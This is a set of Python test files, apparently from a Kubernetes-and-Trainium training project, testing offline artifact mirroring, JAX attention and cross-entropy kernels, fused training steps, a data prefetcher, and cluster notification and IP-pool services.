    assert "chrony" in joined            # ntp role content
    assert "certs.d" in joined           # registry-auth role content


def test_offline_repo_mirrors_both_cni_and_storage_choices(tmp_path):
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.offline_repo import (
        required_artifacts, sync_plan)

    from conftest import manifest_dict

    manifest = manifest_dict()
    arts = {a["category"] + "/" + a["name"] for a in required_artifacts(manifest)}
    assert "cni/calico-3.27.2.yaml" in arts
    assert "cni/flannel-0.24.4.yaml" in arts
    assert "storage/nfs-provisioner-latest.yaml" in arts
    lp_ver = manifest["components"]["local-path"]
    assert f"storage/local-path-provisioner-{lp_ver}.yaml" in arts
    plan = sync_plan(str(tmp_path), manifest)
    # bundled artifacts (incl. local-path) materialize without a fetch
    present = {p["name"] for p in plan["present"]}
    assert f"local-path-provisioner-{lp_ver}.yaml" in present
    # the mirrored manifest must be kubectl-appliable verbatim: a literal
    # image reference, version-consistent with the cluster manifest
    mirrored = (tmp_path / "storage" /
                f"local-path-provisioner-{lp_ver}.yaml").read_text()
    assert f"image: rancher/local-path-provisioner:v{lp_ver}" in mirrored
    assert "${" not in mirrored and "__VERSION:" not in mirrored


def test_bundled_manifest_versioned_per_bundle(tmp_path):
    """A mirror serving clusters on two k8s bundles holds BOTH renderings
    of a version-sentinel addon manifest side by side (versioned dst
    names, like calico-<ver>.yaml) — syncing one bundle must not clobber
    the other's rendering."""
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.offline_repo import sync_plan

    from conftest import manifest_dict

    m128, m129 = manifest_dict(0), manifest_dict(1)
    v128, v129 = (m["components"]["local-path"] for m in (m128, m129))
    assert v128 != v129

    sync_plan(str(tmp_path), m128)
    sync_plan(str(tmp_path), m129)
    lp128 = tmp_path / "storage" / f"local-path-provisioner-{v128}.yaml"
    lp129 = tmp_path / "storage" / f"local-path-provisioner-{v129}.yaml"
    assert f"v{v128}" in lp128.read_text()
    assert f"v{v129}" in lp129.read_text()


def test_unresolved_version_sentinel_fails_sync(tmp_path):
    """A __VERSION:*__ sentinel the bundle doesn't pin must fail the
    sync loudly — passing it through would `kubectl apply` a manifest
    with a nonsense image tag."""
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster.offline_repo import sync_plan

    from conftest import manifest_dict

    manifest = manifest_dict()
    del manifest["components"]["local-path"]
    with pytest.raises(ValueError, match="local-path"):
        sync_plan(str(tmp_path), manifest)
