import jax
import jax.numpy as jnp
import numpy as np
import pytest

from kubeoperator_trn.ops import rms_norm, rope_table, apply_rope, causal_attention
from kubeoperator_trn.ops.attention import (
    attention_block_online,
    online_init,
    online_finish,
)
from kubeoperator_trn.ops.losses import (
    DEFAULT_CE_CHUNK,
    chunked_cross_entropy,
    chunked_nll,
    cross_entropy_loss,
    resolve_ce_chunk,
)


def test_rms_norm_matches_numpy():
    x = np.random.default_rng(0).normal(size=(2, 5, 16)).astype(np.float32)
    scale = np.random.default_rng(1).normal(size=(16,)).astype(np.float32)
    got = rms_norm(jnp.asarray(x), jnp.asarray(scale), eps=1e-5)
    want = x / np.sqrt((x**2).mean(-1, keepdims=True) + 1e-5) * scale
    np.testing.assert_allclose(np.asarray(got), want, rtol=1e-5, atol=1e-5)


def test_rope_preserves_norm_and_relative_phase():
    cos, sin = rope_table(8, 16, theta=10000.0)
    x = jax.random.normal(jax.random.key(0), (1, 8, 2, 16))
    y = apply_rope(x, cos, sin)
    np.testing.assert_allclose(
        np.linalg.norm(np.asarray(x), axis=-1),
        np.linalg.norm(np.asarray(y), axis=-1),
        rtol=1e-5,
    )
    # Position 0 is identity rotation.
    np.testing.assert_allclose(np.asarray(x[:, 0]), np.asarray(y[:, 0]), rtol=1e-5)


def _ref_attention(q, k, v):
    """Naive numpy MHA reference (repeats kv heads)."""
    b, sq, h, d = q.shape
    kvh = k.shape[2]
    rep = h // kvh
    k = np.repeat(k, rep, axis=2)
    v = np.repeat(v, rep, axis=2)
    scores = np.einsum("bqhd,bkhd->bhqk", q, k) / np.sqrt(d)
    mask = np.tril(np.ones((sq, k.shape[1]), bool))
    scores = np.where(mask, scores, -1e30)
    scores = scores - scores.max(-1, keepdims=True)
    p = np.exp(scores)
    p = p / p.sum(-1, keepdims=True)
    return np.einsum("bhqk,bkhd->bqhd", p, v)


def test_causal_attention_matches_reference_gqa():
    rng = np.random.default_rng(0)
    q = rng.normal(size=(2, 6, 4, 8)).astype(np.float32)
    k = rng.normal(size=(2, 6, 2, 8)).astype(np.float32)
    v = rng.normal(size=(2, 6, 2, 8)).astype(np.float32)
    got = causal_attention(jnp.asarray(q), jnp.asarray(k), jnp.asarray(v))
    # GQA grouping: q head i uses kv head i // rep, matching repeat order.
    want = _ref_attention(q, k, v)
    np.testing.assert_allclose(np.asarray(got), want, rtol=2e-4, atol=2e-4)


def test_online_blocks_match_dense():
    """Online-softmax accumulation over kv blocks == dense attention."""
    rng = np.random.default_rng(1)
    b, s, h, kvh, d = 1, 8, 4, 2, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    dense = causal_attention(q, k, v)

    m, l, acc = online_init(b, s, h, d, kvh)
    blk = 4
    for start in range(0, s, blk):
        m, l, acc = attention_block_online(
            q, k[:, start:start+blk], v[:, start:start+blk], m, l, acc,
            q_offset=0, kv_offset=start, n_kv_heads=kvh,
        )
    got = online_finish(m, l, acc, q.dtype)
    np.testing.assert_allclose(np.asarray(got), np.asarray(dense), rtol=2e-4, atol=2e-4)


def test_cross_entropy_against_numpy():
    rng = np.random.default_rng(2)
    logits = rng.normal(size=(2, 4, 10)).astype(np.float32)
    targets = rng.integers(0, 10, size=(2, 4))
    loss, n = cross_entropy_loss(jnp.asarray(logits), jnp.asarray(targets))
    z = logits - logits.max(-1, keepdims=True)
    logp = z - np.log(np.exp(z).sum(-1, keepdims=True))
    want = -np.take_along_axis(logp, targets[..., None], -1).mean()
    np.testing.assert_allclose(float(loss), want, rtol=1e-5)
    assert int(n) == 8


def test_blockwise_attention_matches_dense():
    from kubeoperator_trn.ops.attention import blockwise_causal_attention

    rng = np.random.default_rng(3)
    b, s, h, kvh, d = 2, 64, 4, 2, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    dense = causal_attention(q, k, v)
    blk = blockwise_causal_attention(q, k, v, block_size=16)
    np.testing.assert_allclose(np.asarray(blk), np.asarray(dense),
                               rtol=2e-4, atol=2e-4)
    # short-seq fast path returns dense directly
    blk2 = blockwise_causal_attention(q, k, v, block_size=128)
    np.testing.assert_allclose(np.asarray(blk2), np.asarray(dense),
                               rtol=1e-6, atol=1e-6)


# -- chunked fused CE head ---------------------------------------------

def _ce_inputs(b=2, s=9, d=16, v=51, dtype=np.float32, seed=7):
    rng = np.random.default_rng(seed)
    x = jnp.asarray(rng.normal(size=(b, s, d)).astype(np.float32)).astype(dtype)
    w = jnp.asarray(rng.normal(size=(d, v)).astype(np.float32) * d ** -0.5)
    t = jnp.asarray(rng.integers(0, v, size=(b, s)), jnp.int32)
    return x, w, t


def _dense_ce(x, w, t, mask=None):
    logits = jnp.matmul(x, w.astype(x.dtype),
                        preferred_element_type=jnp.float32)
    return cross_entropy_loss(logits, t, mask)


@pytest.mark.parametrize("chunk", [4, 5, 6, 18, 32])
def test_chunked_ce_matches_dense_fp32(chunk):
    """Loss parity at fp32 for chunk sizes that do (6, 18) and don't
    (4, 5, 32) divide B*S=18, including chunk > T."""
    x, w, t = _ce_inputs()
    want, n_want = _dense_ce(x, w, t)
    got, n_got = chunked_cross_entropy(x, w, t, chunk=chunk)
    assert float(n_got) == float(n_want) == 18
    assert abs(float(got) - float(want)) / abs(float(want)) <= 1e-6


@pytest.mark.parametrize("chunk", [5, 18])
def test_chunked_ce_grads_match_dense_fp32(chunk):
    x, w, t = _ce_inputs()
    gd = jax.grad(lambda x, w: _dense_ce(x, w, t)[0], argnums=(0, 1))(x, w)
    gc = jax.grad(
        lambda x, w: chunked_cross_entropy(x, w, t, chunk=chunk)[0],
        argnums=(0, 1))(x, w)
    for a, b in zip(gd, gc):
        np.testing.assert_allclose(np.asarray(a), np.asarray(b),
                                   rtol=1e-5, atol=1e-6)


def test_chunked_ce_bf16_inputs():
    """bf16 activations, f32 master head weights — the bench dtype mix.
    Chunked and dense run the identical matmul contract (bf16 operands,
    f32 accumulation), so they stay tight even at bf16."""
    x, w, t = _ce_inputs(dtype=jnp.bfloat16)
    want, _ = _dense_ce(x, w, t)
    got, _ = chunked_cross_entropy(x, w, t, chunk=5)
    assert abs(float(got) - float(want)) / abs(float(want)) <= 1e-3
    gd = jax.grad(lambda w: _dense_ce(x, w, t)[0])(w)
    gc = jax.grad(lambda w: chunked_cross_entropy(x, w, t, chunk=5)[0])(w)
    np.testing.assert_allclose(np.asarray(gd), np.asarray(gc),
                               rtol=2e-2, atol=2e-3)


def test_chunked_ce_masked_rows():
    x, w, t = _ce_inputs()
    rng = np.random.default_rng(11)
    mask = jnp.asarray(rng.integers(0, 2, size=t.shape), jnp.float32)
    want, n_want = _dense_ce(x, w, t, mask)
    got, n_got = chunked_cross_entropy(x, w, t, mask, chunk=4)
    assert float(n_got) == float(n_want)
    assert abs(float(got) - float(want)) / abs(float(want)) <= 1e-6
    # masked-out rows contribute no gradient
    gx = jax.grad(
        lambda x: chunked_cross_entropy(x, w, t, mask, chunk=4)[0])(x)
    dead = np.asarray(gx)[np.asarray(mask) == 0]
    np.testing.assert_allclose(dead, 0.0, atol=1e-7)
    # an all-zero mask must not NaN (n clamps at 1)
    z, _ = chunked_cross_entropy(x, w, t, jnp.zeros_like(mask), chunk=4)
    assert np.isfinite(float(z))


def test_chunked_ce_chunk_zero_is_dense_reference():
    """chunk=0 is the A/B escape hatch: exact dense-path reuse."""
    x, w, t = _ce_inputs()
    want, _ = _dense_ce(x, w, t)
    got, _ = chunked_cross_entropy(x, w, t, chunk=0)
    assert float(got) == float(want)


def test_chunked_ce_under_jit_and_scan():
    """The bwd recompute must stay reverse-mode differentiable inside
    jit and a grad-accumulation-style scan (static shapes only)."""
    x, w, t = _ce_inputs()

    @jax.jit
    def accum(x, w):
        def micro(c, _):
            l, g = jax.value_and_grad(
                lambda w: chunked_cross_entropy(x, w, t, chunk=5)[0])(w)
            return (c[0] + l, jax.tree_util.tree_map(jnp.add, c[1], g)), None
        (l, g), _ = jax.lax.scan(micro, (0.0, jnp.zeros_like(w)), None, length=2)
        return l / 2, g

    l, g = accum(x, w)
    want, _ = _dense_ce(x, w, t)
    assert abs(float(l) - float(want)) / abs(float(want)) <= 1e-6
    gd = jax.grad(lambda w: _dense_ce(x, w, t)[0])(w)
    np.testing.assert_allclose(np.asarray(g) / 2, np.asarray(gd),
                               rtol=1e-5, atol=1e-6)


def test_chunked_nll_vector_matches_reference():
    x, w, t = _ce_inputs()
    d = x.shape[-1]
    nll = chunked_nll(x.reshape(-1, d), w, t.reshape(-1), chunk=7)
    logits = np.asarray(jnp.matmul(x, w, preferred_element_type=jnp.float32))
    z = logits - logits.max(-1, keepdims=True)
    logp = z - np.log(np.exp(z).sum(-1, keepdims=True))
    want = -np.take_along_axis(logp, np.asarray(t)[..., None], -1)[..., 0]
    np.testing.assert_allclose(np.asarray(nll), want.reshape(-1),
                               rtol=1e-5, atol=1e-5)


def test_resolve_ce_chunk_env_and_default(monkeypatch):
    monkeypatch.delenv("KO_CE_CHUNK", raising=False)
    assert resolve_ce_chunk(None) == DEFAULT_CE_CHUNK > 0
    assert resolve_ce_chunk(64) == 64
    assert resolve_ce_chunk(0) == 0
    monkeypatch.setenv("KO_CE_CHUNK", "96")
    assert resolve_ce_chunk(None) == 96
    assert resolve_ce_chunk(32) == 32  # explicit config beats env


def test_blockwise_attention_grads_match_dense():
    from kubeoperator_trn.ops.attention import blockwise_causal_attention

    rng = np.random.default_rng(4)
    b, s, h, kvh, d = 1, 32, 2, 2, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)

    def f_dense(q, k, v):
        return jnp.sum(causal_attention(q, k, v) ** 2)

    def f_blk(q, k, v):
        return jnp.sum(blockwise_causal_attention(q, k, v, block_size=8) ** 2)

    gd = jax.grad(f_dense, argnums=(0, 1, 2))(q, k, v)
    gb = jax.grad(f_blk, argnums=(0, 1, 2))(q, k, v)
    for a, b_ in zip(gd, gb):
        np.testing.assert_allclose(np.asarray(a), np.asarray(b_),
                                   rtol=2e-4, atol=2e-4)


# --- K-step fused train loop (train_step.make_multi_step, ISSUE 5) ---


def _parity_setup(plan=None, seq=32, bsz=8, **cfg_kw):
    from dataclasses import replace

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig

    cfg = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32",
                  n_kv_heads=4, n_heads=8, dim=64)
    plan = plan or MeshPlan(fsdp=8)
    optim_kw = cfg_kw.pop("optim_kw", {})
    tcfg = TrainStepConfig(
        model=cfg,
        optim=AdamWConfig(lr=5e-3, warmup_steps=2, total_steps=50,
                          **optim_kw),
        plan=plan, **cfg_kw)

    def batches(n):
        out = []
        for i in range(n):
            toks = jax.random.randint(jax.random.key(100 + i),
                                      (bsz, seq + 1), 0, cfg.vocab_size)
            out.append({"inputs": np.asarray(toks[:, :-1], np.int32),
                        "targets": np.asarray(toks[:, 1:], np.int32)})
        return out

    return tcfg, batches


def _assert_tree_allclose(a, b, rtol=2e-5, atol=1e-6):
    fa = jax.tree_util.tree_leaves(a)
    fb = jax.tree_util.tree_leaves(b)
    assert len(fa) == len(fb)
    for x, y in zip(fa, fb):
        np.testing.assert_allclose(
            np.asarray(x, np.float32), np.asarray(y, np.float32),
            rtol=rtol, atol=atol)


def _run_parity(tcfg, batches, k=3):
    """One K-step fused call must equal K sequential legacy steps:
    same per-step losses, same params, same opt state."""
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.data import stack_batches
    from kubeoperator_trn.train.train_step import (
        make_multi_step, make_train_step, superbatch_spec)

    bs = batches(k)

    step, ih, init_sharded, make_jitted, mesh = make_train_step(tcfg)
    state = init_sharded(jax.random.key(0))
    jitted = make_jitted(state)
    bsh = jax.NamedSharding(mesh, batch_spec())
    seq_losses = []
    for b in bs:
        state, metrics = jitted(state, jax.device_put(b, bsh))
        seq_losses.append(float(metrics["loss"]))
    seq_state = state

    mstep, mih, minit_sharded, mmake_jitted, mmesh = make_multi_step(tcfg)
    mstate = minit_sharded(jax.random.key(0))
    mjitted = mmake_jitted(mstate)
    sb = jax.device_put(stack_batches(bs),
                        jax.NamedSharding(mmesh, superbatch_spec()))
    mstate, mmetrics = mjitted(mstate, sb)

    # stacked per-step metrics, one entry per fused step
    assert mmetrics["loss"].shape == (k,)
    np.testing.assert_allclose(np.asarray(mmetrics["loss"]),
                               np.asarray(seq_losses), rtol=1e-6)
    _assert_tree_allclose(mstate["params"], seq_state["params"])
    _assert_tree_allclose(mstate["opt"], seq_state["opt"])


def test_multi_step_parity_fsdp():
    tcfg, batches = _parity_setup()
    _run_parity(tcfg, batches, k=3)


def test_multi_step_parity_manual_tp():
    from kubeoperator_trn.parallel.mesh import MeshPlan

    tcfg, batches = _parity_setup(plan=MeshPlan(tp=2))
    _run_parity(tcfg, batches, k=3)


def test_multi_step_parity_bf16_moments_grad_accum():
    tcfg, batches = _parity_setup(
        grad_accum=2, optim_kw={"moments_dtype": "bfloat16"})
    _run_parity(tcfg, batches, k=2)


# --- DevicePrefetcher (train/data.py, ISSUE 5) ---


def _counted_stream(n, bsz=2, seq=4):
    for i in range(n):
        yield {"inputs": np.full((bsz, seq), i, np.int32),
               "targets": np.full((bsz, seq), i, np.int32)}


def test_prefetcher_yields_ordered_windows_and_tail():
    from kubeoperator_trn.train.data import DevicePrefetcher

    # n_steps=5, K=2 -> windows [2, 2, 1]; host-only (identity device_put)
    with DevicePrefetcher(_counted_stream(10), steps_per_call=2, n_steps=5,
                          device_put=lambda sb: sb) as pf:
        windows = list(pf)
    assert [w["inputs"].shape[0] for w in windows] == [2, 2, 1]
    flat = np.concatenate([w["inputs"][:, 0, 0] for w in windows])
    assert flat.tolist() == [0, 1, 2, 3, 4]  # stream order preserved
    # iterating an exhausted prefetcher keeps raising StopIteration
    assert list(pf) == []


def test_prefetcher_stream_exhaustion_and_bounded_queue():
    from kubeoperator_trn.train.data import DevicePrefetcher

    # stream shorter than n_steps: short final window, then done
    pf = DevicePrefetcher(_counted_stream(3), steps_per_call=2, n_steps=10,
                          depth=1, device_put=lambda sb: sb)
    try:
        windows = list(pf)
    finally:
        pf.close()
    assert [w["inputs"].shape[0] for w in windows] == [2, 1]
    # close() again is idempotent
    pf.close()
    assert not pf._thread.is_alive()


def test_prefetcher_close_unblocks_producer():
    from kubeoperator_trn.train.data import DevicePrefetcher

    # infinite stream + tiny queue: producer is blocked on put when we
    # close; close() must still join the thread (no deadlock)
    def infinite():
        i = 0
        while True:
            yield {"inputs": np.full((1, 2), i, np.int32),
                   "targets": np.full((1, 2), i, np.int32)}
            i += 1

    pf = DevicePrefetcher(infinite(), steps_per_call=4, depth=1,
                          device_put=lambda sb: sb)
    first = next(pf)
    assert first["inputs"].shape[0] == 4
    pf.close()
    assert not pf._thread.is_alive()


def test_prefetcher_producer_error_surfaces():
    from kubeoperator_trn.train.data import DevicePrefetcher

    def bad_stream():
        yield {"inputs": np.zeros((1, 2), np.int32),
               "targets": np.zeros((1, 2), np.int32)}
        raise RuntimeError("bad token file")

    pf = DevicePrefetcher(bad_stream(), steps_per_call=1,
                          device_put=lambda sb: sb)
    try:
        next(pf)  # first window is fine
        with pytest.raises(RuntimeError, match="bad token file"):
            next(pf)
    finally:
        pf.close()


def test_prefetch_depth_env(monkeypatch):
    from kubeoperator_trn.train.data import resolve_prefetch_depth

    monkeypatch.delenv("KO_PREFETCH_DEPTH", raising=False)
    assert resolve_prefetch_depth(None) == 2
    monkeypatch.setenv("KO_PREFETCH_DEPTH", "3")
    assert resolve_prefetch_depth(None) == 3
    assert resolve_prefetch_depth(1) == 1  # explicit beats env
    with pytest.raises(ValueError):
        resolve_prefetch_depth(0)
