import jax
import jax.numpy as jnp
import numpy as np
import pytest

from kubeoperator_trn.ops import rms_norm, rope_table, apply_rope, causal_attention
from kubeoperator_trn.ops.attention import (
    attention_block_online,
    online_init,
    online_finish,
)
from kubeoperator_trn.ops.losses import cross_entropy_loss


def test_rms_norm_matches_numpy():
    x = np.random.default_rng(0).normal(size=(2, 5, 16)).astype(np.float32)
    scale = np.random.default_rng(1).normal(size=(16,)).astype(np.float32)
    got = rms_norm(jnp.asarray(x), jnp.asarray(scale), eps=1e-5)
    want = x / np.sqrt((x**2).mean(-1, keepdims=True) + 1e-5) * scale
    np.testing.assert_allclose(np.asarray(got), want, rtol=1e-5, atol=1e-5)


def test_rope_preserves_norm_and_relative_phase():
    cos, sin = rope_table(8, 16, theta=10000.0)
    x = jax.random.normal(jax.random.key(0), (1, 8, 2, 16))
    y = apply_rope(x, cos, sin)
    np.testing.assert_allclose(
        np.linalg.norm(np.asarray(x), axis=-1),
        np.linalg.norm(np.asarray(y), axis=-1),
        rtol=1e-5,
    )
    # Position 0 is identity rotation.
    np.testing.assert_allclose(np.asarray(x[:, 0]), np.asarray(y[:, 0]), rtol=1e-5)


def _ref_attention(q, k, v):
    """Naive numpy MHA reference (repeats kv heads)."""
    b, sq, h, d = q.shape
    kvh = k.shape[2]
    rep = h // kvh
    k = np.repeat(k, rep, axis=2)
    v = np.repeat(v, rep, axis=2)
    scores = np.einsum("bqhd,bkhd->bhqk", q, k) / np.sqrt(d)
    mask = np.tril(np.ones((sq, k.shape[1]), bool))
    scores = np.where(mask, scores, -1e30)
    scores = scores - scores.max(-1, keepdims=True)
    p = np.exp(scores)
    p = p / p.sum(-1, keepdims=True)
    return np.einsum("bhqk,bkhd->bqhd", p, v)


def test_causal_attention_matches_reference_gqa():
    rng = np.random.default_rng(0)
    q = rng.normal(size=(2, 6, 4, 8)).astype(np.float32)
    k = rng.normal(size=(2, 6, 2, 8)).astype(np.float32)
    v = rng.normal(size=(2, 6, 2, 8)).astype(np.float32)
    got = causal_attention(jnp.asarray(q), jnp.asarray(k), jnp.asarray(v))
    # GQA grouping: q head i uses kv head i // rep, matching repeat order.
    want = _ref_attention(q, k, v)
    np.testing.assert_allclose(np.asarray(got), want, rtol=2e-4, atol=2e-4)


def test_online_blocks_match_dense():
    """Online-softmax accumulation over kv blocks == dense attention."""
    rng = np.random.default_rng(1)
    b, s, h, kvh, d = 1, 8, 4, 2, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    dense = causal_attention(q, k, v)

    m, l, acc = online_init(b, s, h, d, kvh)
    blk = 4
    for start in range(0, s, blk):
        m, l, acc = attention_block_online(
            q, k[:, start:start+blk], v[:, start:start+blk], m, l, acc,
            q_offset=0, kv_offset=start, n_kv_heads=kvh,
        )
    got = online_finish(m, l, acc, q.dtype)
    np.testing.assert_allclose(np.asarray(got), np.asarray(dense), rtol=2e-4, atol=2e-4)


def test_cross_entropy_against_numpy():
    rng = np.random.default_rng(2)
    logits = rng.normal(size=(2, 4, 10)).astype(np.float32)
    targets = rng.integers(0, 10, size=(2, 4))
    loss, n = cross_entropy_loss(jnp.asarray(logits), jnp.asarray(targets))
    z = logits - logits.max(-1, keepdims=True)
    logp = z - np.log(np.exp(z).sum(-1, keepdims=True))
    want = -np.take_along_axis(logp, targets[..., None], -1).mean()
    np.testing.assert_allclose(float(loss), want, rtol=1e-5)
    assert int(n) == 8


def test_blockwise_attention_matches_dense():
    from kubeoperator_trn.ops.attention import blockwise_causal_attention

    rng = np.random.default_rng(3)
    b, s, h, kvh, d = 2, 64, 4, 2, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    dense = causal_attention(q, k, v)
    blk = blockwise_causal_attention(q, k, v, block_size=16)
    np.testing.assert_allclose(np.asarray(blk), np.asarray(dense),
                               rtol=2e-4, atol=2e-4)
    # short-seq fast path returns dense directly
    blk2 = blockwise_causal_attention(q, k, v, block_size=128)
    np.testing.assert_allclose(np.asarray(blk2), np.asarray(dense),
                               rtol=1e-6, atol=1e-6)


def test_blockwise_attention_grads_match_dense():
    from kubeoperator_trn.ops.attention import blockwise_causal_attention

    rng = np.random.default_rng(4)
    b, s, h, kvh, d = 1, 32, 2, 2, 8
    q = jnp.asarray(rng.normal(size=(b, s, h, d)), jnp.float32)
    k = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)
    v = jnp.asarray(rng.normal(size=(b, s, kvh, d)), jnp.float32)

    def f_dense(q, k, v):
        return jnp.sum(causal_attention(q, k, v) ** 2)

    def f_blk(q, k, v):
        return jnp.sum(blockwise_causal_attention(q, k, v, block_size=8) ** 2)

    gd = jax.grad(f_dense, argnums=(0, 1, 2))(q, k, v)
    gb = jax.grad(f_blk, argnums=(0, 1, 2))(q, k, v)
    for a, b_ in zip(gd, gb):
        np.testing.assert_allclose(np.asarray(a), np.asarray(b_),
                                   rtol=2e-4, atol=2e-4)
