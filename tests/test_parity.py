"""Reference-surface parity (SURVEY.md §2.4, §5.5; VERDICT r1 item 9/10):
project-scoped listings, notification channels, IP-pool consumption,
Grafana MFU dashboard, 16-node provision drill."""

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from kubeoperator_trn.cluster.db import DB
from kubeoperator_trn.cluster.notify import (
    FakeChannel, NotificationService, WebhookChannel,
)
from kubeoperator_trn.cluster.provisioner import (
    EC2Trn2Provisioner, FakeCloud, allocate_ips, release_ips,
)
from kubeoperator_trn.cluster.runner import FakeRunner, PhaseResult
from kubeoperator_trn.cluster.service import ClusterService
from kubeoperator_trn.cluster.taskengine import TaskEngine


def _mk_stack(notifier=None, cloud=None):
    db = DB(":memory:")
    runner = FakeRunner()
    provisioner = EC2Trn2Provisioner(db, cloud or FakeCloud())
    holder = {}
    engine = TaskEngine(db, runner, workers=1,
                        inventory_fn=lambda c, v: holder["svc"].inventory_for(c, v),
                        notifier=notifier)
    svc = ClusterService(db, engine, provisioner)
    holder["svc"] = svc
    return db, runner, engine, svc


def _cluster_doc(db, name="c1", n_nodes=1, provider="manual", **spec_extra):
    from dataclasses import asdict

    from kubeoperator_trn.cluster import entities as E

    spec = asdict(E.ClusterSpec(provider=provider, **spec_extra))
    nodes = []
    for i in range(n_nodes):
        role = "master" if i == 0 else "worker"
        host_id = E.new_id()
        if provider == "manual":
            db.put("hosts", host_id, {"id": host_id, "name": f"h{i}",
                                      "ip": f"10.9.0.{i+1}", "credential_id": "",
                                      "port": 22, "facts": {}, "status": "Running",
                                      "cluster_id": "", "project_id": ""})
        nodes.append(asdict(E.Node(name=f"{name}-n{i}", host_id=host_id,
                                   role=role)))
    doc = asdict(E.Cluster(name=name, spec=spec, nodes=nodes))
    db.put("clusters", doc["id"], doc)
    return doc


# -- notifications -----------------------------------------------------

def test_notifications_on_task_success_and_failure():
    chan = FakeChannel()
    db = DB(":memory:")
    notifier = NotificationService(db, extra_channels=[chan], synchronous=True)
    db2, runner, engine, svc = _mk_stack(notifier=notifier)
    # _mk_stack made its own db; rebuild notifier around that db
    engine.notifier = NotificationService(db2, extra_channels=[chan],
                                          synchronous=True)
    doc = _cluster_doc(db2, "n1")
    task = svc.create(db2.get("clusters", doc["id"]))
    assert engine.wait(task["id"], timeout=30)
    assert any(e == "task.success" and p["op"] == "create"
               for e, p in chan.sent), chan.sent

    runner.script["precheck"] = PhaseResult(ok=False, rc=1, summary="boom")
    doc2 = _cluster_doc(db2, "n2")
    task2 = svc.create(db2.get("clusters", doc2["id"]))
    assert engine.wait(task2["id"], timeout=30)
    assert any(e == "task.failed" for e, p in chan.sent), chan.sent
    engine.shutdown()


def test_webhook_channel_posts_and_settings_filtering():
    received = []

    class H(BaseHTTPRequestHandler):
        def do_POST(self):
            n = int(self.headers.get("Content-Length") or 0)
            received.append(json.loads(self.rfile.read(n)))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *a):
            pass

    httpd = HTTPServer(("127.0.0.1", 0), H)
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    url = f"http://127.0.0.1:{httpd.server_address[1]}/hook"

    db = DB(":memory:")
    db.put("settings", "notifications", {
        "id": "notifications", "name": "notifications",
        "value": [{"type": "webhook", "url": url, "events": ["task.failed"]}],
    })
    svc = NotificationService(db, synchronous=True)
    svc.notify("task.success", {"task_id": "t1"})  # filtered out
    svc.notify("task.failed", {"task_id": "t2"})
    httpd.shutdown()
    assert len(received) == 1 and received[0]["task_id"] == "t2", received


# -- IP pools ----------------------------------------------------------

def _mk_pool(db, start="10.5.0.10", end="10.5.0.12"):
    db.put("ip_pools", "p1", {"id": "p1", "name": "pool1",
                              "subnet": "10.5.0.0/24",
                              "start": start, "end": end})


def test_ip_pool_allocate_release_and_exhaustion():
    db = DB(":memory:")
    _mk_pool(db)
    got = allocate_ips(db, "pool1", ["a", "b"])
    assert got == {"a": "10.5.0.10", "b": "10.5.0.11"}
    got2 = allocate_ips(db, "pool1", ["c"])
    assert got2 == {"c": "10.5.0.12"}
    with pytest.raises(ValueError, match="exhausted"):
        allocate_ips(db, "pool1", ["d"])
    release_ips(db, "pool1", ["b"])
    assert allocate_ips(db, "pool1", ["e"]) == {"e": "10.5.0.11"}


def test_provisioner_consumes_pool():
    db, runner, engine, svc = _mk_stack()
    _mk_pool(db)
    doc = _cluster_doc(db, "ec", n_nodes=2, provider="ec2", neuron=True,
                       ip_pool="pool1")
    task = svc.create(db.get("clusters", doc["id"]))
    assert engine.wait(task["id"], timeout=30)
    ips = sorted(h["ip"] for h in db.list("hosts")
                 if h.get("cluster_id") == doc["id"])
    assert ips == ["10.5.0.10", "10.5.0.11"], ips
    pool = db.get("ip_pools", "p1")
    assert len(pool["allocated"]) == 2
    # delete releases the pool addresses
    svc2_task = svc.delete(db.get("clusters", doc["id"]))
    assert engine.wait(svc2_task["id"], timeout=30)
    pool = db.get("ip_pools", "p1")
    assert pool["allocated"] == {}, pool
    engine.shutdown()


# -- dashboard ---------------------------------------------------------

def test_mfu_dashboard_shipped_and_referenced():
    import kubeoperator_trn.cluster as cl

    base = os.path.dirname(cl.__file__)
    path = os.path.join(base, "dashboards", "trn2-mfu.json")
    dash = json.load(open(path))
    exprs = [t["expr"] for p in dash["panels"] for t in p.get("targets", [])]
    assert any("ko_job_mfu" in e for e in exprs)
    assert any("neuroncore_utilization_ratio" in e for e in exprs)
    playbook = open(os.path.join(base, "playbooks", "monitoring.yml")).read()
    assert "trn2-mfu.json" in playbook
    from kubeoperator_trn.cluster.offline_repo import required_artifacts

    arts = required_artifacts({"k8s_version": "v1.28.8"})
    assert any(a["name"].endswith("trn2-mfu.json") for a in arts)


def test_exporter_emits_job_mfu_gauge():
    from kubeoperator_trn.cluster import neuron_monitor as nm

